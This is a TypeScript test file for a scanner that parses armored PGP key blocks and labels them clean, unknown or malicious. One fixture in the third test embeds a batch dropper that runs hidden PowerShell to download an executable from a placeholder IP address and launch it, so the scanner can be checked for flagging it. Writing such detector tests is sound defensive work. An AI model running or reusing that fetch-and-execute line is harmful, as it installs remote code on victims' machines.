// Keys and signatures are read to their end; what is locked, packed or no packet is not clean.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeFile } from '../../../src/index.ts'

const packet = (tag: number, body: Uint8Array): Buffer => {
  const length = Buffer.alloc(5, 255)
  length.writeUInt32BE(body.length, 1)
  return Buffer.concat([Buffer.from([0xc0 | tag]), length, body])
}
/** As older programs write it, with a length of two bytes. */
const oldPacket = (tag: number, body: Uint8Array): Buffer =>
  Buffer.concat([Buffer.from([0x80 | (tag << 2) | 1, body.length >> 8, body.length & 255]), body])
const key = oldPacket(6, Buffer.concat([Buffer.from('045f5e10000108', 'hex'), Buffer.alloc(300, 7)]))
const user = packet(13, Buffer.from('Ann Example <ann@host.example>'))
const signature = packet(2, Buffer.alloc(300, 4))
const literal = (text: string): Buffer =>
  packet(11, Buffer.concat([Buffer.from([0x62, 5]), Buffer.from('a.bat'), Buffer.alloc(4), Buffer.from(text)]))
const armored = (bytes: Uint8Array, behind = ''): Buffer =>
  Buffer.from(
    `-----BEGIN PGP PUBLIC KEY BLOCK-----\nComment: a key\n\n${Buffer.from(bytes).toString('base64').replace(/.{64}/g, '$&\n')}\n=abcd\n-----END PGP PUBLIC KEY BLOCK-----\n${behind}`,
  )
const judge = (bytes: Uint8Array) => analyzeFile(bytes, { fileName: 'a.asc', now: new Date('2026-01-01T00:00:00Z') })

test('a key with its owner and signatures, wrapped for mail or not, is clean', async () => {
  const whole = Buffer.concat([key, user, signature, signature])
  for (const bytes of [armored(whole), Buffer.concat([armored(whole), armored(whole)])]) {
    const { root, verdict } = await judge(bytes)
    assert.equal(root.facts.type.id, 'pgp')
    assert.deepEqual(root.facts.pgp?.users[0], 'Ann Example <ann@host.example>')
    assert.equal(verdict.label, 'clean')
  }
})

test('what is encrypted, compressed, cut off or no packet is not clean', async () => {
  for (const bytes of [
    armored(Buffer.concat([key, packet(18, Buffer.alloc(99, 1))])),
    armored(packet(8, Buffer.alloc(99, 1))),
    armored(Buffer.concat([key, Buffer.from('MZ, a program')])),
    armored(Buffer.concat([key, user]).subarray(0, 200)),
    armored(Buffer.concat([key, user])).subarray(0, 300),
  ])
    assert.equal((await judge(bytes)).verdict.label, 'unknown')
})

test('what a message carries in the clear, and what stands around the block, is looked at', async () => {
  const drops =
    '@echo off\r\npowershell -w hidden -ep bypass -c "iwr http://198.51.100.7/a.exe -o %temp%\\a.exe; start %temp%\\a.exe"\r\n'
  const { root, verdict } = await judge(armored(literal(drops)))
  assert.equal(root.children[0]?.facts.type.id, 'batch')
  assert.equal(verdict.label, 'malicious')
  const { root: around } = await judge(armored(key, 'A line behind it.'))
  assert.equal(around.children.length, 1)
})
